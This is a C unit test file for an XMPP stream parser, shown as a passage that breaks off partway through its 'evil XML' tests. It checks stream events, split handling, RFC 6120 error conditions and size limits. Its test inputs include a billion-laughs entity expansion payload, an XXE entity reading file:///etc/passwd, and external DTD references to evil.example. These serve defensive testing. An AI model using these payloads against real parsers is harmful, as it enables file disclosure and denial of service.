/*
 * test_xml_stream.c: the XMPP stream parser (xmpp/stream.c).
 *  - events: header attributes in any order, stanzas with namespaces,
 *    keep-alives, close, restarts (the bytes after the restart point);
 *  - split anywhere: every split point and one byte at a time give the
 *    events of the whole buffer;
 *  - every stream error condition the parser raises (RFC 6120 §4.9.3);
 *  - the evil-XML catalogue: billion laughs, external entities, deep
 *    nesting, a 20 MB text node, 100 000 attributes, bad UTF-8, bad
 *    prefixes, stanza before header, comment, PI; nothing on stderr;
 *  - the real transcripts in tests/vectors/xmpp/transcripts;
 *  - the attribute pre-scanner: SIMD and byte loop agree.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "helper_files.h"
#include "xmpp/xml.h"
#include "xmpp/xml_int.h"

#define NS_DECLS                                                                                   \
    "xmlns='jabber:server' xmlns:stream='http://etherx.jabber.org/streams' "                        \
    "xmlns:db='jabber:server:dialback'"
#define HDR "<?xml version='1.0'?><stream:stream " NS_DECLS " to='gw.test' from='xmpp.test' version='1.0'>"
#define S(lit) (lit), (sizeof(lit) - 1)

/* ---- recorder ------------------------------------------------------------ */

typedef struct rec {
    xml_stream *s;
    psyc_buf log; /* one line per event; stanzas serialized */
    xml_nsmap map;
    char map_ns[64];
    size_t opens, stanzas, closes;
    int restart_tls;   /* restart after starttls/proceed/success */
    size_t fail_at;    /* xml_stream_fail at this stanza (1-based), 0: never */
    int keep;
    xml_node *kept[64];
    size_t nkept;
} rec;

static void r_open(void *ud, const xml_stream_header *h)
{
    rec *r = ud;
    r->opens++;
    snprintf(r->map_ns, sizeof r->map_ns, "%s", h->content_ns ? h->content_ns : "");
    xml_nsmap_init(&r->map, h->content_ns ? r->map_ns : NULL);
    char tmp[512];
#define V(x) ((x) ? (x) : "-")
    snprintf(tmp, sizeof tmp, "open from=%s to=%s id=%s version=%s lang=%s ns=%s prefix=%s nns=%zu\n",
             V(h->from), V(h->to), V(h->id), V(h->version), V(h->lang), V(h->content_ns),
             V(h->stream_prefix), h->nns);
#undef V
    psyc_buf_puts(&r->log, tmp);
}

static void r_stanza(void *ud, xml_node *st)
{
    rec *r = ud;
    r->stanzas++;
    assert_int_equal(xml_serialize(&r->log, st, &r->map), 0);
    psyc_buf_putc(&r->log, '\n');
    if (r->restart_tls && (xml_is(st, "starttls", XML_NS_TLS) || xml_is(st, "proceed", XML_NS_TLS) ||
                           xml_is(st, "success", XML_NS_SASL)))
        xml_stream_restart(r->s);
    if (r->fail_at && r->stanzas == r->fail_at)
        xml_stream_fail(r->s, XML_COND_NOT_AUTHORIZED, "handler says no");
    if (r->keep && r->nkept < 64)
        r->kept[r->nkept++] = st;
    else
        xml_node_free(st);
}

static void r_close(void *ud)
{
    rec *r = ud;
    r->closes++;
    psyc_buf_puts(&r->log, "close\n");
}

static const xml_stream_handler handler = {.open = r_open, .stanza = r_stanza, .close = r_close};

static void rec_init(rec *r, const xml_stream_opts *o)
{
    memset(r, 0, sizeof *r);
    psyc_buf_init(&r->log);
    r->restart_tls = 1;
    r->s = xml_stream_new(o, &handler, r);
    assert_non_null(r->s);
}

static void rec_free(rec *r)
{
    xml_stream_free(r->s);
    for (size_t i = 0; i < r->nkept; i++)
        xml_node_free(r->kept[i]);
    psyc_buf_free(&r->log);
}

/* Feeds d in chunks; after a restart the rest goes to the new document
 * (the SASL case). Returns the last status. */
static xml_status feed(rec *r, const char *d, size_t n, size_t chunk)
{
    size_t off = 0;
    xml_status st = XML_STREAM_OK;
    while (off < n) {
        size_t k = n - off < chunk ? n - off : chunk, used = 0;
        st = xml_stream_feed(r->s, d + off, k, &used);
        if (st == XML_STREAM_ERROR || st == XML_STREAM_CLOSED)
            return st;
        if (st == XML_STREAM_RESTART)
            psyc_buf_puts(&r->log, "restart\n");
        off += used;
    }
    return st;
}

static void log_str(rec *r, char **out)
{
    psyc_buf_putc(&r->log, '\0');
    *out = strdup(r->log.data);
}

/* Expects a stream error with cond, fed whole, byte by byte and in 7s. */
static void expect_cond_opts(const char *in, size_t n, xml_cond cond, const xml_stream_opts *o)
{
    size_t chunks[] = {n ? n : 1, 1, 7};
    for (size_t c = 0; c < 3; c++) {
        rec r;
        rec_init(&r, o);
        xml_status st = feed(&r, in, n, chunks[c]);
        const char *text = NULL;
        xml_cond got = xml_stream_error(r.s, &text);
        if (st != XML_STREAM_ERROR || got != cond)
            fail_msg("chunk %zu: status %d, condition %s (%s), expected %s", chunks[c], st,
                     xml_cond_name(got), text, xml_cond_name(cond));
        assert_non_null(text);
        /* Dead until restarted. */
        assert_int_equal(xml_stream_feed(r.s, S(" "), NULL), XML_STREAM_ERROR);
        rec_free(&r);
    }
}

static void expect_cond(const char *in, size_t n, xml_cond cond)
{
    expect_cond_opts(in, n, cond, NULL);
}

static void expect_ok(const char *in, size_t n, size_t stanzas)
{
    rec r;
    rec_init(&r, NULL);
    xml_status st = feed(&r, in, n, n ? n : 1);
    const char *text = "";
    xml_cond c = xml_stream_error(r.s, &text);
    if (st == XML_STREAM_ERROR)
        fail_msg("unexpected %s: %s", xml_cond_name(c), text);
    assert_int_equal(r.stanzas, stanzas);
    rec_free(&r);
}

/* ---- events -------------------------------------------------------------- */

static void test_basic_events(void **state)
{
    (void)state;
    static const char in[] =
        HDR "<message from='a@xmpp.test/r' to='b@gw.test' type='chat' id='m1' xml:lang='en'>"
            "<body>hi &amp; &lt;bye&gt; &#x263A;</body><active xmlns='http://jabber.org/protocol/chatstates'/>"
            "</message> \n"
            "<db:result from='xmpp.test' to='gw.test'>k3y</db:result>"
            "<iq type='get' id='2'><query xmlns='http://jabber.org/protocol/disco#info'/></iq>";
    rec r;
    rec_init(&r, NULL);
    r.keep = 1;
    assert_int_equal(feed(&r, S(in), 1000), XML_STREAM_OK);
    assert_int_equal(r.opens, 1);
    assert_int_equal(r.stanzas, 3);

    const xml_stream_header *h = xml_stream_get_header(r.s);
    assert_non_null(h);
    assert_string_equal(h->to, "gw.test");
    assert_string_equal(h->from, "xmpp.test");
    assert_string_equal(h->version, "1.0");
    assert_null(h->id);
    assert_null(h->lang);
    assert_string_equal(h->content_ns, XML_NS_SERVER);
    assert_string_equal(h->stream_prefix, "stream");
    assert_int_equal(h->nns, 3);
    assert_true(xml_is(h->elem, "stream", XML_NS_STREAMS));

    xml_node *m = r.kept[0];
    assert_true(xml_is(m, "message", XML_NS_SERVER));
    assert_int_equal(m->nattrs, 5);
    assert_string_equal(m->attrs[0].name, "from"); /* wire order */
    assert_string_equal(m->attrs[4].name, "lang");
    assert_string_equal(m->attrs[4].ns, XML_NS_XML);
    assert_string_equal(xml_attr_get(m, "type"), "chat");
    assert_null(xml_attr_get(m, "lang")); /* qualified: not an unqualified "lang" */
    size_t len;
    assert_string_equal(xml_elem_text(xml_child(m, "body", XML_NS_SERVER), &len), "hi & <bye> \xe2\x98\xba");
    assert_int_equal(len, 14);
    assert_non_null(xml_child(m, "active", "http://jabber.org/protocol/chatstates"));

    xml_node *db = r.kept[1];
    assert_true(xml_is(db, "result", XML_NS_DIALBACK));
    assert_string_equal(xml_elem_text(db, NULL), "k3y");
    assert_true(xml_is(r.kept[2], "iq", XML_NS_SERVER));

    /* Stanzas outlive the parser (names copied or static). */
    xml_stream_free(r.s);
    r.s = NULL;
    assert_string_equal(xml_attr_get(r.kept[0], "from"), "a@xmpp.test/r");
    assert_string_equal(r.kept[2]->children->ns, "http://jabber.org/protocol/disco#info");
    rec_free(&r);
}

static void test_header_attribute_order(void **state)
{
    (void)state;
    /* Prosody and ejabberd order the header attributes differently and
     * Prosody sends id='' (../shared/xmpp-harness/notes.md). */
    static const char prosody[] =
        "<?xml version='1.0'?><stream:stream from='xmpp.test' xmlns:stream='http://etherx.jabber.org/streams' "
        "xml:lang='en' version='1.0' id='' to='gw.test' xmlns='jabber:server' xmlns:db='jabber:server:dialback'>";
    static const char ejabberd[] =
        "<?xml version='1.0'?><stream:stream id='1494' xml:lang='en' xmlns:stream='http://etherx.jabber.org/streams' "
        "from='psyc.ejab.test' xmlns='jabber:component:accept'>";
    rec r;
    rec_init(&r, NULL);
    assert_int_equal(feed(&r, S(prosody), 5), XML_STREAM_OK);
    const xml_stream_header *h = xml_stream_get_header(r.s);
    assert_non_null(h);
    assert_string_equal(h->from, "xmpp.test");
    assert_string_equal(h->to, "gw.test");
    assert_string_equal(h->id, "");
    assert_string_equal(h->lang, "en");
    assert_string_equal(h->content_ns, XML_NS_SERVER);
    rec_free(&r);

    xml_stream_opts o = {.content_ns = XML_NS_COMPONENT};
    rec_init(&r, &o);
    assert_int_equal(feed(&r, S(ejabberd), 3), XML_STREAM_OK);
    h = xml_stream_get_header(r.s);
    assert_string_equal(h->id, "1494");
    assert_null(h->to);
    assert_string_equal(h->content_ns, XML_NS_COMPONENT);
    rec_free(&r);

    /* Any prefix for the stream namespace (RFC 6120 §4.8.5). */
    static const char other[] =
        "<foo:stream xmlns:foo='http://etherx.jabber.org/streams' xmlns='jabber:client'><foo:features/>";
    rec_init(&r, NULL);
    r.keep = 1;
    assert_int_equal(feed(&r, S(other), 1000), XML_STREAM_OK);
    assert_string_equal(xml_stream_get_header(r.s)->stream_prefix, "foo");
    assert_true(xml_is(r.kept[0], "features", XML_NS_STREAMS));
    rec_free(&r);
}

static void test_keepalives(void **state)
{
    (void)state;
    static const char in[] = HDR " \n\t \r\n<iq type='get' id='1'/>   \n\n<iq type='get' id='2'/>\n ";
    expect_ok(S(in), 2);

    /* Whitespace resets the stanza boundary: 100 KB of keep-alives under a
     * 2 KB stanza limit, in any split. */
    size_t n = 100000;
    char *big = malloc(sizeof HDR + n + 32);
    memcpy(big, HDR, sizeof HDR - 1);
    memset(big + sizeof HDR - 1, ' ', n);
    strcpy(big + sizeof HDR - 1 + n, "<iq id='x'/>");
    size_t len = strlen(big);
    xml_stream_opts o = {.max_stanza = 2048};
    size_t chunks[] = {len, 1000, 1};
    for (int c = 0; c < 3; c++) {
        rec r;
        rec_init(&r, &o);
        assert_int_equal(feed(&r, big, len, chunks[c]), XML_STREAM_OK);
        assert_int_equal(r.stanzas, 1);
        rec_free(&r);
    }
    free(big);
}

static void test_close(void **state)
{
    (void)state;
    static const char in[] = HDR "<iq id='1'/></stream:stream>trailing junk <<<";
    size_t upto = (size_t)(strstr(in, "</stream:stream>") - in) + 16;
    rec r;
    rec_init(&r, NULL);
    size_t used = 0;
    assert_int_equal(xml_stream_feed(r.s, S(in), &used), XML_STREAM_CLOSED);
    assert_int_equal(used, upto);
    assert_int_equal(r.closes, 1);
    assert_int_equal(xml_stream_feed(r.s, S("<iq/>"), &used), XML_STREAM_CLOSED);
    assert_int_equal(used, 0);
    assert_int_equal(xml_stream_error(r.s, NULL), XML_COND_NONE);
    /* A restart reuses the stream. */
    xml_stream_restart(r.s);
    assert_int_equal(xml_stream_feed(r.s, S(HDR "<iq/>"), &used), XML_STREAM_OK);
    assert_int_equal(r.opens, 2);
    rec_free(&r);
}

static void test_restart_used_bytes(void **state)
{
    (void)state;
    /* STARTTLS: the caller drops what follows <proceed/> (RFC 6120
     * §5.4.3.3); used says where it starts. A long prefix moves libxml2's
     * buffer (shrink) before the restart point. */
    psyc_buf in;
    psyc_buf_init(&in);
    psyc_buf_puts(&in, HDR);
    for (int i = 0; i < 2000; i++)
        psyc_buf_puts(&in, "<message to='a@b' id='x'><body>some text to move the buffer</body></message>\n");
    psyc_buf_puts(&in, "<proceed xmlns='urn:ietf:params:xml:ns:xmpp-tls'></proceed >");
    size_t point = in.len;
    psyc_buf_puts(&in, "INJECTED<iq/>");
    size_t chunks[] = {in.len, 4096, 1000, 13};
    for (int c = 0; c < 4; c++) {
        rec r;
        rec_init(&r, NULL);
        size_t off = 0, used = 0;
        xml_status st = XML_STREAM_OK;
        while (off < in.len) {
            size_t k = in.len - off < chunks[c] ? in.len - off : chunks[c];
            st = xml_stream_feed(r.s, in.data + off, k, &used);
            off += used;
            if (st != XML_STREAM_OK)
                break;
        }
        assert_int_equal(st, XML_STREAM_RESTART);
        assert_int_equal(off, point);
        assert_int_equal(r.stanzas, 2001);
        /* The TLS layer's new stream; the injected bytes were dropped. */
        assert_null(xml_stream_get_header(r.s));
        assert_int_equal(xml_stream_feed(r.s, S(HDR "<iq id='after'/>"), &used), XML_STREAM_OK);
        assert_int_equal(r.opens, 2);
        assert_int_equal(r.stanzas, 2002);
        rec_free(&r);
    }
    psyc_buf_free(&in);

    /* SASL: the bytes after <success/> are kept and start the new document. */
    static const char sasl[] = HDR "<success xmlns='urn:ietf:params:xml:ns:xmpp-sasl'/>" HDR "<iq id='1'/>";
    rec r;
    rec_init(&r, NULL);
    assert_int_equal(feed(&r, S(sasl), 4096), XML_STREAM_OK);
    assert_int_equal(r.opens, 2);
    assert_int_equal(r.stanzas, 2);
    /* Restart between feeds. */
    xml_stream_restart(r.s);
    assert_null(xml_stream_get_header(r.s));
    assert_int_equal(feed(&r, S(HDR "<iq/>"), 4096), XML_STREAM_OK);
    assert_int_equal(r.opens, 3);
    rec_free(&r);
}

/* A stream with a bit of everything, for split tests. */
static const char variety[] =
    HDR "\n<message from='a@xmpp.test/r&amp;d' to='b@gw.test' type='chat' id='&quot;x&apos;' "
        "xml:lang='de' a='tab&#9;nl&#10;cr&#13;'>"
        "<body>Gr\xc3\xbc\xc3\x9f""e &lt;3 &#x1F600; <![CDATA[<not a tag> & ]]> more</body>"
        "<thread>t1</thread><x xmlns='urn:example:x'><y><z n='1'>deep</z></y></x>"
        "<p:q xmlns:p='urn:example:p' p:attr='v'/></message>  "
        "<presence from='a@xmpp.test/r'><c xmlns='http://jabber.org/protocol/caps' hash='sha-1' "
        "node='http://example' ver='abc='/></presence>\n"
        "<db:result from='xmpp.test' to='gw.test'>0123456789abcdef</db:result>"
        "<db:verify from='xmpp.test' to='gw.test' id='i' type='valid'/>"
        "<iq type='result' id='2'><query xmlns='http://jabber.org/protocol/disco#info'>"
        "<feature var='urn:xmpp:ping'/></query></iq>"
        "<message><body>"
        "0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789"
        "0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789"
        "0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789"
        "0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789"
        "</body></message>"
        "<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>"
        HDR "<message to='c@d'><body>after restart</body></message> </stream:stream>";

static void test_split_anywhere(void **state)
{
    (void)state;
    size_t n = sizeof variety - 1;
    rec r;
    rec_init(&r, NULL);
    assert_int_equal(feed(&r, variety, n, n), XML_STREAM_CLOSED);
    assert_int_equal(r.stanzas, 8);
    assert_int_equal(r.opens, 2);
    char *whole;
    log_str(&r, &whole);
    rec_free(&r);

    /* Every split point into two feeds. */
    for (size_t k = 1; k < n; k++) {
        rec_init(&r, NULL);
        size_t used = 0, off = 0;
        xml_status st = XML_STREAM_OK;
        const size_t cuts[2] = {k, n};
        for (int part = 0; part < 2 && st != XML_STREAM_CLOSED; part++) {
            while (off < cuts[part]) {
                st = xml_stream_feed(r.s, variety + off, cuts[part] - off, &used);
                assert_int_not_equal(st, XML_STREAM_ERROR);
                if (st == XML_STREAM_RESTART)
                    psyc_buf_puts(&r.log, "restart\n");
                off += used;
                if (st == XML_STREAM_CLOSED)
                    break;
            }
        }
        char *split;
        log_str(&r, &split);
        if (strcmp(whole, split) != 0)
            fail_msg("split at %zu differs:\n%s\n--- vs whole ---\n%s", k, split, whole);
        free(split);
        rec_free(&r);
    }
    /* Fixed chunk sizes, one byte at a time included. */
    for (size_t c = 1; c <= 64; c++) {
        rec_init(&r, NULL);
        assert_int_equal(feed(&r, variety, n, c), XML_STREAM_CLOSED);
        char *split;
        log_str(&r, &split);
        assert_string_equal(whole, split);
        free(split);
        rec_free(&r);
    }
    free(whole);
}

static void test_text_and_attribute_values(void **state)
{
    (void)state;
    rec r;
    rec_init(&r, NULL);
    r.keep = 1;
    static const char in[] = HDR "<message a='&amp;&lt;&gt;&quot;&apos;&#38;&#x26;' b='x\ty\nz' c='&#9;&#10;&#13;'>"
                                 "<body>a<![CDATA[b<&]]>c</body><x>1<y/>2</x></message>";
    assert_int_equal(feed(&r, S(in), 1), XML_STREAM_OK);
    xml_node *m = r.kept[0];
    assert_string_equal(xml_attr_get(m, "a"), "&<>\"'&&");
    assert_int_equal(xml_attr_find(m, "a", NULL)->len, 7);
    assert_string_equal(xml_attr_get(m, "b"), "x y z"); /* normalised (XML 1.0 §3.3.3) */
    assert_string_equal(xml_attr_get(m, "c"), "\t\n\r"); /* references are not */
    xml_node *body = xml_child(m, "body", NULL);
    /* CDATA and adjacent text are one text node. */
    assert_non_null(body->children);
    assert_null(body->children->next);
    assert_string_equal(body->children->text, "ab<&c");
    size_t len;
    assert_string_equal(xml_elem_text(xml_child(m, "x", NULL), &len), "12");
    assert_int_equal(len, 2);
    rec_free(&r);
}

/* ---- stream errors -------------------------------------------------------- */

static void test_restricted_xml(void **state)
{
    (void)state;
    /* RFC 6120 §11.1: comments, PIs, DTDs, entity declarations. */
    expect_cond(S(HDR "<!-- hello -->"), XML_COND_RESTRICTED_XML);
    expect_cond(S(HDR "<message><!--x--></message>"), XML_COND_RESTRICTED_XML);
    expect_cond(S("<?xml version='1.0'?><!-- c -->" HDR), XML_COND_RESTRICTED_XML);
    expect_cond(S(HDR "<?foo bar?>"), XML_COND_RESTRICTED_XML);
    expect_cond(S("<?xml version='1.0'?><?foo?>" HDR), XML_COND_RESTRICTED_XML);
    expect_cond(S("<!DOCTYPE stream>" HDR), XML_COND_RESTRICTED_XML);
    expect_cond(S("<?xml version='1.0'?><!DOCTYPE s SYSTEM 'http://evil.example/x.dtd'>" HDR),
                XML_COND_RESTRICTED_XML);
    expect_cond(S("<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://evil.example/p'> %p;]>" HDR),
                XML_COND_RESTRICTED_XML);
}

static void test_not_well_formed(void **state)
{
    (void)state;
    /* RFC 6120 §11.3, §4.9.3.13 */
    expect_cond(S(HDR "<message><body>&xxe;</body></message>"), XML_COND_NOT_WELL_FORMED);
    expect_cond(S(HDR "<message a='&nbsp;'/>"), XML_COND_NOT_WELL_FORMED);
    expect_cond(S(HDR "<message><body></message>"), XML_COND_NOT_WELL_FORMED);
    expect_cond(S(HDR "<message a='1' a='2'/>"), XML_COND_NOT_WELL_FORMED);
    expect_cond(S(HDR "<message xmlns:p='urn:u' xmlns:q='urn:u' p:a='1' q:a='2'/>"), XML_COND_NOT_WELL_FORMED);
    expect_cond(S(HDR "<message xmlns:p=''/>"), XML_COND_NOT_WELL_FORMED);
    expect_cond(S(HDR "<message><body>a\0b</body></message>"), XML_COND_NOT_WELL_FORMED);
    expect_cond(S(HDR "<message a='\0'/>"), XML_COND_NOT_WELL_FORMED);
    expect_cond(S(HDR "<mes\0sage/>"), XML_COND_NOT_WELL_FORMED);
    expect_cond(S(HDR "<message><body>\x01</body></message>"), XML_COND_NOT_WELL_FORMED);
    expect_cond(S(HDR "<message><body>&#0;</body></message>"), XML_COND_NOT_WELL_FORMED);
    /* Text or a BOM (U+FEFF is a character, RFC 6120 §11.6) before the header. */
    expect_cond(S("hello " HDR), XML_COND_NOT_WELL_FORMED);
    expect_cond(S("\xef\xbb\xbf" HDR), XML_COND_NOT_WELL_FORMED);
    /* UTF-16 is not autodetected, declared encodings are ignored. */
    expect_cond(S("<\0s\0t\0r\0e\0a\0m\0>\0"), XML_COND_NOT_WELL_FORMED);
    expect_cond(S("<?xml version='1.0' encoding='ISO-8859-1'?>" HDR "<message><body>\xe9</body></message>"),
                XML_COND_NOT_WELL_FORMED);
    /* An XML declaration later on. */
    expect_cond(S(HDR "<?xml version='1.0'?>"), XML_COND_NOT_WELL_FORMED);
}

static void test_invalid_utf8(void **state)
{
    (void)state;
    static const char *const bad[] = {
        "\x80",             /* lone continuation */
        "\xc0\x80",         /* overlong NUL */
        "\xc1\xbf",         /* overlong */
        "\xe0\x80\xaf",     /* overlong '/' */
        "\xed\xa0\x80",     /* surrogate */
        "\xf4\x90\x80\x80", /* > U+10FFFF */
        "\xf8\x88\x80\x80\x80",
        "\xe2\x82",         /* truncated before '<' */
        "\xef\xbf\xbe",     /* U+FFFE: not an XML Char */
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        char in[512];
        int n = snprintf(in, sizeof in, HDR "<message><body>a%sb</body></message>", bad[i]);
        expect_cond(in, (size_t)n, XML_COND_NOT_WELL_FORMED);
        n = snprintf(in, sizeof in, HDR "<message to='%s'/>", bad[i]);
        expect_cond(in, (size_t)n, XML_COND_NOT_WELL_FORMED);
        n = snprintf(in, sizeof in, HDR "<message%s/>", bad[i]);
        expect_cond(in, (size_t)n, XML_COND_NOT_WELL_FORMED);
    }
    /* Valid multi-byte characters pass. */
    expect_ok(S(HDR "<message to='\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80'><body>\xf4\x8f\xbf\xbd</body></message>"), 1);
}

static void test_namespaces(void **state)
{
    (void)state;
    /* Undeclared prefixes: invalid-namespace (RFC 6120 §4.9.3.10). */
    expect_cond(S(HDR "<message><foo:x/></message>"), XML_COND_INVALID_NAMESPACE);
    expect_cond(S(HDR "<message foo:a='1'/>"), XML_COND_INVALID_NAMESPACE);
    expect_cond(S(HDR "<foo:message/>"), XML_COND_INVALID_NAMESPACE);
    expect_cond(S("<stream:stream xmlns='jabber:server' to='x'>"), XML_COND_INVALID_NAMESPACE);
    /* Stanza before the header: the root is not in the stream namespace
     * (RFC 6120 §4.8.1). */
    expect_cond(S("<message xmlns='jabber:client'><body>x</body></message>"), XML_COND_INVALID_NAMESPACE);
    expect_cond(S("<?xml version='1.0'?><presence/>"), XML_COND_INVALID_NAMESPACE);
    /* Wrong stream namespace. */
    expect_cond(S("<stream:stream xmlns:stream='http://etherx.jabber.org/streams/' xmlns='jabber:server'>"),
                XML_COND_INVALID_NAMESPACE);
    /* Content namespace = stream namespace (§4.8.2). */
    expect_cond(S("<stream:stream xmlns:stream='http://etherx.jabber.org/streams' "
                  "xmlns='http://etherx.jabber.org/streams'>"),
                XML_COND_INVALID_NAMESPACE);
    /* Required content namespace. */
    xml_stream_opts o = {.content_ns = XML_NS_COMPONENT};
    expect_cond_opts(S(HDR), XML_COND_INVALID_NAMESPACE, &o);
    expect_cond_opts(S("<stream:stream xmlns:stream='http://etherx.jabber.org/streams'>"),
                     XML_COND_INVALID_NAMESPACE, &o);
    /* Right namespace, wrong local name: bad-format (§4.9.3.1). */
    expect_cond(S("<stream:streams xmlns:stream='http://etherx.jabber.org/streams' xmlns='jabber:server'>"),
                XML_COND_BAD_FORMAT);
    /* The stream namespace without a prefix: bad-namespace-prefix (§4.8.5). */
    expect_cond(S("<stream xmlns='http://etherx.jabber.org/streams'>"), XML_COND_BAD_NAMESPACE_PREFIX);
    /* Declared prefixes anywhere are fine. */
    expect_ok(S(HDR "<message xmlns:p='urn:p'><p:x p:y='1'><p:z/></p:x></message>"), 1);
}

static void test_bad_format_text(void **state)
{
    (void)state;
    /* Only whitespace between stanzas (RFC 6120 §4.6.1). */
    expect_cond(S(HDR "hello<iq/>"), XML_COND_BAD_FORMAT);
    expect_cond(S(HDR "<iq/>x<iq/>"), XML_COND_BAD_FORMAT);
    expect_cond(S(HDR "<![CDATA[x]]>"), XML_COND_BAD_FORMAT);
    expect_cond(S(HDR "&amp;"), XML_COND_BAD_FORMAT);
}

static void test_policy_limits(void **state)
{
    (void)state;
    char in[4096];
    /* Depth: the stanza element is 1; 32 is fine, 33 is not. */
    size_t n = (size_t)snprintf(in, sizeof in, "%s", HDR "<message>");
    for (int i = 1; i < 32; i++)
        n += (size_t)snprintf(in + n, sizeof in - n, "<a>");
    for (int i = 1; i < 32; i++)
        n += (size_t)snprintf(in + n, sizeof in - n, "</a>");
    n += (size_t)snprintf(in + n, sizeof in - n, "</message>");
    expect_ok(in, n, 1);
    n = (size_t)snprintf(in, sizeof in, "%s", HDR "<message>");
    for (int i = 1; i < 33; i++)
        n += (size_t)snprintf(in + n, sizeof in - n, "<a>");
    expect_cond(in, n, XML_COND_POLICY_VIOLATION);
    xml_stream_opts o = {.max_depth = 2};
    expect_cond_opts(S(HDR "<message><a><b/></a></message>"), XML_COND_POLICY_VIOLATION, &o);

    /* Attributes (namespace declarations count): 64 fine, 65 not. */
    for (int extra = 0; extra < 2; extra++) {
        n = (size_t)snprintf(in, sizeof in, "%s", HDR "<message xmlns:p='urn:p'");
        for (int i = 1; i < 64 + extra; i++)
            n += (size_t)snprintf(in + n, sizeof in - n, " a%d=''", i);
        n += (size_t)snprintf(in + n, sizeof in - n, "/>");
        if (extra)
            expect_cond(in, n, XML_COND_POLICY_VIOLATION);
        else
            expect_ok(in, n, 1);
    }
    /* The header has 6; a limit of 6 leaves room for that many. */
    xml_stream_opts few = {.max_attrs = 6};
    expect_cond_opts(S(HDR "<message a='=' b=\"'\" c='3' d='' e='' f='' g=''/>"), XML_COND_POLICY_VIOLATION,
                     &few);
    expect_cond_opts(S(HDR "<message><x xmlns:p='u' a='1' b='2' c='3' d='' e='' f=''/></message>"),
                     XML_COND_POLICY_VIOLATION, &few);
    /* '=' in values and text do not count. */
    static const char eqs[] = HDR "<message a='====' b=\"a=b=c\" c='x\"=\"' d=\"'='\" e='' f=''>"
                                  "<body>= = = = = = = = = = = = = =</body></message>";
    rec r;
    rec_init(&r, &few);
    assert_int_equal(feed(&r, S(eqs), 5), XML_STREAM_OK);
    assert_int_equal(r.stanzas, 1);
    rec_free(&r);

    /* Stanza size: bytes since the last boundary, exactly at the limit. */
    xml_stream_opts sz = {.max_stanza = 200};
    for (int over = 0; over < 2; over++) {
        n = (size_t)snprintf(in, sizeof in, "%s", HDR "<message><body>");
        size_t fill = 200 - strlen("<message><body></body></message>") + (size_t)over;
        memset(in + n, 'x', fill);
        n += fill;
        n += (size_t)snprintf(in + n, sizeof in - n, "</body></message><iq/>");
        if (over) {
            expect_cond_opts(in, n, XML_COND_POLICY_VIOLATION, &sz);
        } else {
            size_t chunks[] = {n, 1, 64};
            for (int c = 0; c < 3; c++) {
                rec_init(&r, &sz);
                assert_int_equal(feed(&r, in, n, chunks[c]), XML_STREAM_OK);
                assert_int_equal(r.stanzas, 2);
                rec_free(&r);
            }
        }
    }
}

static void test_fail_from_handler(void **state)
{
    (void)state;
    rec r;
    rec_init(&r, NULL);
    r.fail_at = 1;
    size_t used;
    assert_int_equal(xml_stream_feed(r.s, S(HDR "<iq id='1'/><iq id='2'/>"), &used), XML_STREAM_ERROR);
    assert_int_equal(r.stanzas, 1); /* nothing after the failing stanza */
    const char *text;
    assert_int_equal(xml_stream_error(r.s, &text), XML_COND_NOT_AUTHORIZED);
    assert_string_equal(text, "handler says no");
    /* Restart clears it. */
    xml_stream_restart(r.s);
    r.fail_at = 0;
    assert_int_equal(xml_stream_feed(r.s, S(HDR "<iq/>"), &used), XML_STREAM_OK);
    rec_free(&r);
}

static xml_stream *reenter_s;
static int reenter_rc;
static void reenter_stanza(void *ud, xml_node *st)
{
    (void)ud;
    reenter_rc = xml_stream_feed(reenter_s, S("<iq/>"), NULL);
    xml_node_free(st);
}

static void test_reentrant_feed_refused(void **state)
{
    (void)state;
    xml_stream_handler h = {.stanza = reenter_stanza};
    reenter_s = xml_stream_new(NULL, &h, NULL);
    assert_int_equal(xml_stream_feed(reenter_s, S(HDR "<iq/>"), NULL), XML_STREAM_OK);
    assert_int_equal(reenter_rc, XML_STREAM_ERROR);
    xml_stream_free(reenter_s);
}

/* ---- evil XML ----------------------------------------------------------------- */

static double cpu_now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static xml_cond feed_one(const char *d, size_t n, size_t chunk, const xml_stream_opts *o)
{
    rec r;
    rec_init(&r, o);
    xml_status st = feed(&r, d, n, chunk);
    xml_cond c = st == XML_STREAM_ERROR ? xml_stream_error(r.s, NULL) : XML_COND_NONE;
    rec_free(&r);
    return c;
}

static void evil_catalogue(void)
{
    /* Billion laughs (entity expansion) and external entities: the DTD is
     * refused before anything in it is read. */
    static const char laughs[] =
        "<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol 'lol'>"
        "<!ENTITY lol1 '&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;'>"
        "<!ENTITY lol2 '&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;'>"
        "<!ENTITY lol3 '&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;'>"
        "<!ENTITY lol9 '&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;'>]>"
        "<stream:stream " NS_DECLS "><message><body>&lol9;</body></message>";
    expect_cond(S(laughs), XML_COND_RESTRICTED_XML);
    static const char xxe[] = "<?xml version='1.0'?><!DOCTYPE m [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>"
                              "<stream:stream " NS_DECLS "><message><body>&xxe;</body></message>";
    expect_cond(S(xxe), XML_COND_RESTRICTED_XML);
    /* Without a DTD the reference is just undefined. */
    expect_cond(S(HDR "<message><body>&xxe;</body></message>"), XML_COND_NOT_WELL_FORMED);

    /* 10 000-deep nesting. */
    psyc_buf b;
    psyc_buf_init(&b);
    psyc_buf_puts(&b, HDR "<message>");
    for (int i = 0; i < 10000; i++)
        psyc_buf_puts(&b, "<a>");
